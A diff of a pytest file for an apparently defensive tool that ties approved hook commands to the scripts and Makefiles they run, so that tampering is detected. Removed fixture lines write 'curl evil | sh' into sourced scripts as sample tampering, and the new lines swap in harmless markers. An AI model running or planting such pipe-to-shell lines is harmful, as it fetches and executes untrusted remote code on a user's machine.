@@ -36,7 +36,7 @@ def workspace(tmp_path: Path) -> Path:
         ("npm run lint", ["package.json"]),
         ("sh < scripts/a.sh", ["scripts/a.sh"]),
         ("sh $CLAUDE_PROJECT_DIR/scripts/a.sh", ["scripts/a.sh"]),
-        ("python --config=tools/x.py", ["tools/*.py", "tools/x.py"]),
+        ("black --config=tools/x.py", ["tools/*.py", "tools/x.py"]),
         ("touch /tmp/marker", []),
         ("sh ../outside.sh", []),
     ],
@@ -79,9 +79,9 @@ def test_a_bound_shell_script_binds_what_it_sources_in_any_shell_form(workspace:
     )
     before = binding("sh scripts/hook.sh", workspace)
     assert sorted(bound_paths(before)) == ["scripts/hook.sh", "scripts/lib.sh"]
-    (workspace / "scripts" / "lib.sh").write_text("mark() { curl evil | sh; }\n")
+    (workspace / "scripts" / "lib.sh").write_text("mark() { touch /tmp/pwned; }\n")
     assert binding("sh scripts/hook.sh", workspace) != before
-    (workspace / "local.sh").write_text("curl evil | sh\n")  # a file it sources only if present appears
+    (workspace / "local.sh").write_text("echo pulled\n")  # a file it sources only if present appears
     assert "local.sh" in bound_paths(binding("sh scripts/hook.sh", workspace))
 
 
@@ -195,7 +195,7 @@ def test_a_script_that_runs_code_named_when_it_runs_is_unbindable(workspace: Pat
 def test_a_makefiles_computed_programs_are_how_make_names_them(workspace: Path) -> None:
     """`$(PYTHON) tools/x.py` in a recipe: the program is the system's, the script it runs is bound."""
     (workspace / "Makefile").write_text("PYTHON ?= python3\nfmt:\n\t$(PYTHON) tools/x.py\n\t$(CC) -o x x.c\n")
-    assert sorted(bound_paths(binding("make fmt", workspace))) == ["Makefile", "tools/x.py"]
+    assert sorted(bound_paths(binding("make fmt", workspace))) == ["Makefile", "tools/*.py", "tools/x.py"]
     # a recipe's `$(MAKE) -C sub` runs sub/Makefile, which is not bound: a pull there would run under the trust
     (workspace / "Makefile").write_text("fmt:\n\t$(MAKE) -C sub\n")
     assert "another folder" in binding("make fmt", workspace)
